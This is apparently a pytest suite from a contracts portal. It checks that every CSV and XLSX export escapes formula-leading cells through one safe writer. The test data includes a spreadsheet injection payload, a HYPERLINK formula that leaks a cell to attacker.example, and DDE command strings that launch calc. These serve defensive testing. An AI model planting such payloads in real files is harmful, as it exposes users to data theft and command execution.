"""Finding 2: every CSV and XLSX the portal writes goes through one safe writer."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from portal import tabular
from portal.extensions import db
from portal.performance.models import PaymentStatement
from tests.performance import helpers

INJECTION = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def _statement_with_reference(contract, reference: str):
    sub = helpers.submission(contract)
    line = {"ref": reference, "area": "@SUM(1+1)*cmd|' /C calc'!A0", "criterion": "+Heating",
            "deduction_periods": 3, "used_factor": "1", "repetition_multiplier": "1", "amount": "180.00"}
    data = {"contract": contract.code, "month": "2026-10", "currency": "EUR", "lines": [line], "performance_bands": [],
            "monthly_unitary_charge": "416666.67", "availability_deduction": "180.00",
            "performance_deduction": "0.00", "total_deduction": "180.00", "net_payment": "416486.67"}
    db.session.add(PaymentStatement(contract_id=contract.id, submission_id=sub.id, month=date(2026, 10, 1),
                                    data=data, net_payment=Decimal("416486.67"), total_deduction=Decimal("180.00")))
    db.session.flush()
    return sub


def test_statement_csv_prefixes_formulas_in_event_references(world, login):
    _statement_with_reference(world.contract_a, INJECTION)
    response = login(world["public_manager"]).get("/contracts/AAA/performance/2026-10/statement.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode())))
    line = next(row for row in rows if row[3] == "availability")
    assert line[4] == "'" + INJECTION
    assert line[5].startswith("'@") and line[6] == "'+Heating"
    assert line[-1] == "180.00"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_event_templates_are_written_safely(world, login):
    helpers.framework(world.contract_a)
    world.contract_a.time_zone = "=cmd|' /C calc'!A0"  # nothing a user may set today; the writer must not care
    client = login(world["operator_staff"])
    book = load_workbook(io.BytesIO(client.get("/contracts/AAA/performance/events-template.xlsx").data))
    cells = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(isinstance(v, str) and v.startswith("=") for v in cells)
    assert any(isinstance(v, str) and v.startswith("Times are local") for v in cells)


def test_no_module_writes_csv_or_xlsx_around_the_safe_writer():
    from pathlib import Path

    import portal

    offenders = []
    for path in Path(portal.__file__).parent.rglob("*.py"):
        if path.name == "tabular.py":
            continue
        text = path.read_text()
        offenders += [f"{path.name}: {m}" for m in re.findall(r"csv\.(?:Dict)?[Ww]riter\(", text)]
        if "openpyxl" in text:
            offenders += [f"{path.name}: {m}" for m in re.findall(r"\b(?:sheet|ws|lists|book)\.append\(", text)]
    assert not offenders, offenders


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(max_size=40), st.integers(), st.none()), min_size=1, max_size=6),
                min_size=1, max_size=6))
def test_csv_writer_round_trips_and_never_starts_a_formula(rows):
    text = tabular.csv_text(rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert len(parsed) == len(rows)
    for original, cells in zip(rows, parsed, strict=True):
        assert len(cells) == len(original)
        for value, cell in zip(original, cells, strict=True):
            expected = "" if value is None else str(value)
            if cell != expected:  # only ever the apostrophe in front
                assert cell == "'" + expected
            assert not cell.lstrip(" \u00a0").startswith(tabular.FORMULA_START) or tabular._PLAIN_NUMBER.fullmatch(cell)


@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\uff1d"]), st.text(max_size=30))
def test_any_formula_start_is_neutralised(start, rest):
    cell = tabular.safe_cell(start + rest)
    assert cell.startswith("'") or tabular._PLAIN_NUMBER.fullmatch(start + rest)


def test_numbers_are_kept():
    assert tabular.safe_cell("-12.50") == "-12.50"
    assert tabular.safe_cell(Decimal("-3")) == Decimal("-3")
    assert tabular.safe_cell("-1+2") == "'-1+2"
    assert tabular.safe_cell("  =1+1") == "'  =1+1"

